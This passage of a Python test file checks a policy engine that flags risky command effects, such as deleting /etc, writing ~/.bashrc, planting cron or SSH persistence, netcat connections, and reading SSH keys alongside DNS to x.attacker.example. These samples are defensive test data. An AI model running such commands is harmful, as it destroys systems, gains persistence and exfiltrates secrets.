        (True, True), (True, True), (True, False), (True, False), (True, False),
    ]  # fmt: skip


def test_inline_test_entries_cover_every_effect(tmp_path: Path) -> None:
    extra = """\
    tests:
      match:
        - programs: [{argv: [sh, -c, x]}, {argv: [innocent], executable: /usr/bin/nc}]
          network: [{protocol: dns, dns_name: a.example}, {port: 4444}]
          sensitive_reads: [.env, "~/.ssh/id_rsa"]
    """
    b = one(
        tmp_path,
        "{programs: {argv0: [nc]}, network: {ports: [4444]}, sensitive_reads: {paths: [.env]}}",
        extra=extra,
    )
    e = b.effect_rules[0].tests[0].effects
    assert e.processes[1].executables == (b"/usr/bin/nc",)
    assert [(a.protocol, a.address, a.port) for a in e.network] == [
        (NetProtocol.DNS, "127.0.0.53", 53),
        (NetProtocol.TCP, "192.0.2.1", 4444),
    ]
    assert [r.path for r in e.sensitive_reads] == [b"/workspace/.env", b"/home/user/.ssh/id_rsa"]


def test_failing_inline_tests_reject_the_bundle_and_say_why(tmp_path: Path) -> None:
    extra = """\
    tests:
      match:
        - files: [{path: /etc/hosts}]
      not_match:
        - files: [{path: "~/.bashrc"}]
    """
    found = problems(
        tmp_path,
        {"p.yaml": policy(rule("{files: {paths: ['~/.bashrc']}}", extra=extra))},
    )
    assert [(p.line, p.column) for p in found] == [(11, 11), (13, 11)]
    assert found[0].message == (
        "inline test failed: rule 't.effect' should fire on '{files: [{path: /etc/hosts}]}', "
        "but it did not fire: files did not hold; the effects: 1 change (/etc/hosts (modified))"
    )
    assert found[1].message == (
        "inline test failed: rule 't.effect' should not fire on "
        "'{files: [{path: ~/.bashrc}]}', but it fired (Test rule t.effect: "
        "/home/user/.bashrc (modified))"
    )
    # Without the tests run at load, they are reported one by one.
    b = load(tmp_path, {}, run_tests=False)
    assert [r.ok for r in run_inline_tests(b.effect_rules)] == [False, False]


def test_fixture_files_cannot_name_an_effect_rule(tmp_path: Path) -> None:
    b = one(tmp_path, "{network: {any: true}}")
    result = run_fixture(b, FixtureCase("f.sh", 2, "curl x", "t.effect", True))
    assert not result.ok and "is an effect rule" in result.detail


# --------------------------------------------------------------------------- tooling


def run_cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["policy", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_lint_test_and_explain_effects(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    extra = """\
    tests:
      match: [{network: [{port: 4444}]}]
      not_match: [{}]
    """
    pol = write_policy(
        tmp_path / "pol", {"p.yaml": policy(rule("{network: {ports: [4444]}}", extra=extra))}
    )
    code, _out, err = run_cli(capsys, "lint", str(pol))
    assert code == 0 and err.startswith("ok: 1 file(s), 1 rule(s) (1 effect), 0 warning(s)")
    code, out, _err = run_cli(capsys, "test", "-v", str(pol))
    assert code == 0
    assert out.splitlines()[-1] == "2 passed, 0 failed (2 inline, 0 from 0 fixture file(s))"
    assert "ok: t.effect should fire on '{network: [{port: 4444}]}'" in out
    eff = (
        write_policy(tmp_path, {"e.yaml": "network: [{address: 203.0.113.7, port: 4444}]\n"})
        / "e.yaml"
    )
    code, out, _err = run_cli(capsys, "explain", "--policy", str(pol), "--effects", str(eff))
    assert code == 0
    assert "network: tcp 203.0.113.7 203.0.113.7:4444" in out
    assert "DENY t.effect (high): Test rule t.effect: tcp 203.0.113.7:4444" in out
    assert out.rstrip().endswith("effect verdict: DENY")
    code, out, _err = run_cli(
        capsys, "explain", "--policy", str(pol), "--json", "--effects", str(eff), "--", "ls"
    )
    doc = json.loads(out)
    assert doc["policy"]["effect_rules"] == 1 and doc["analysis"]["commands"][0]["name"] == "ls"
    assert doc["effects"]["verdict"] == "DENY"
    assert doc["effects"]["findings"][0]["source"] == "DYNAMIC"
    bad = write_policy(tmp_path, {"bad.yaml": "network: [{port: x}]\n"}) / "bad.yaml"
    code, _out, err = run_cli(capsys, "explain", "--policy", str(pol), "--effects", str(bad))
    assert code == 1 and f"{bad}:1:18: error: network[0].port: expected an integer" in err


def test_read_effects_file_errors(tmp_path: Path) -> None:
    f = write_policy(tmp_path, {"e.yaml": "- files: []\n"}) / "e.yaml"
    with pytest.raises(PolicyError) as info:
        read_effects_file(f)
    assert "an effects file is a mapping, found a list" in str(info.value)
    f.write_text("")
    assert read_effects_file(f) == Effects(workspace="/workspace", home="/home/user", uid=1000)


# --------------------------------------------------------------------------- the default policy


@pytest.fixture(scope="module")
def default() -> PolicyBundle:
    return load_bundle(DEFAULT_POLICY)


def decisions(bundle: PolicyBundle, e: Effects) -> dict[str, Verdict]:
    return {f.rule_id: f.verdict for f in bundle.judge_effects(e)}


def test_default_rmtree_etc_is_denied(default: PolicyBundle) -> None:
    # python3 -c 'import shutil; shutil.rmtree("/etc")': the diff reports /etc deleted.
    e = effects(
        change("/etc", ChangeKind.DELETED, entries=1234),
        processes=(proc("python3", "-c", "import shutil; shutil.rmtree('/etc')"),),
    )
    findings = default.judge_effects(e)
    assert [f.rule_id for f in findings] == ["effect.system-write"]
    assert findings[0].verdict is Verdict.DENY and findings[0].severity is Severity.HIGH
    assert findings[0].message == "Changes system files: /etc (deleted, 1234 entries below)"


def test_default_appending_bashrc_is_denied(default: PolicyBundle) -> None:
    e = effects(change(HOME + "/.bashrc"), processes=(proc("bash", "-c", "echo x >> ~/.bashrc"),))
    findings = default.judge_effects(e)
    assert [(f.rule_id, f.verdict) for f in findings] == [
        ("effect.shell-startup-write", Verdict.DENY),
        ("effect.home-write", Verdict.ASK),
    ]
    assert findings[0].message == f"Changes a shell start-up file: {HOME}/.bashrc (modified)"
    assert findings[0].severity is Severity.CRITICAL


def test_default_persistence_is_denied(default: PolicyBundle) -> None:
    for path in (
        HOME + "/.ssh/authorized_keys",
        HOME + "/.config/systemd/user/x.service",
        "/var/spool/cron/crontabs/me",
        "/etc/cron.d/job",
    ):
        got = decisions(default, effects(change(path, ChangeKind.CREATED)))
        assert got.get("effect.persistence") is Verdict.DENY, path


def test_default_connect_asks(default: PolicyBundle) -> None:
    e = effects(network=(tcp("203.0.113.7", 4444),), processes=(proc("nc", "203.0.113.7", "4444"),))
    findings = default.judge_effects(e)
    assert [(f.rule_id, f.verdict, f.severity) for f in findings] == [
        ("effect.network", Verdict.ASK, Severity.MEDIUM)
    ]
    assert findings[0].message == "Tries to reach the network: tcp 203.0.113.7:4444"


def test_default_secret_read_and_dns_is_exfiltration(default: PolicyBundle) -> None:
    e = effects(reads=(HOME + "/.ssh/id_ed25519",), network=(dns("x.attacker.example"),))
    findings = default.judge_effects(e)
    assert [(f.rule_id, f.verdict, f.severity) for f in findings] == [
        ("effect.exfiltration", Verdict.DENY, Severity.CRITICAL),
        ("effect.sensitive-read", Verdict.ASK, Severity.HIGH),
        ("effect.network", Verdict.ASK, Severity.MEDIUM),
    ]
    assert findings[0].message == (
        "Reads a secret and reaches the network in the same run: "
        f"{HOME}/.ssh/id_ed25519 (read); dns x.attacker.example"
    )
    # A read alone asks; known_hosts with the network is not exfiltration (but still asks).
    assert decisions(default, effects(reads=(HOME + "/.ssh/id_ed25519",))) == {
        "effect.sensitive-read": Verdict.ASK
    }
    known = effects(reads=(HOME + "/.ssh/known_hosts",), network=(tcp("198.18.0.1", 22),))
    assert set(decisions(default, known)) == {"effect.sensitive-read", "effect.network"}


def test_default_workspace_and_temp_changes_are_fine(default: PolicyBundle) -> None:
    e = effects(
        change(WS + "/src/main.py", ChangeKind.CREATED),
        change(WS + "/build", ChangeKind.DELETED, entries=40),
        change(WS + "/run.sh", ChangeKind.METADATA_CHANGED),
        change("/tmp/pytest-of-me/x", ChangeKind.CREATED),
        processes=(proc("make"), proc("cc", "-c", "main.c")),
    )
    assert default.judge_effects(e) == ()


def test_default_home_change_and_privilege_tool_ask(default: PolicyBundle) -> None:
    assert decisions(default, effects(change(HOME + "/.cache/pip/x", ChangeKind.CREATED))) == {
        "effect.home-write": Verdict.ASK
    }
    assert decisions(default, effects(processes=(proc("make", "install"), proc("sudo", "cp")))) == {
        "effect.privilege-tool": Verdict.ASK
    }


def test_schema_documents_every_effect_key() -> None:
    from importlib import resources

    schema = json.loads(
        resources.files("airlock.policy").joinpath("data/policy.schema.json").read_text()
    )
    effect = schema["$defs"]["effect"]["properties"]
    assert set(effect) == {"files", "programs", "network", "sensitive_reads", "work_lost", "any_of"}
    for key, sub in effect.items():
        assert sub.get("description"), key
        for inner, spec in sub.get("properties", {}).items():
            assert spec.get("description"), (key, inner)
    assert schema["properties"]["sensitive_paths"]["description"]
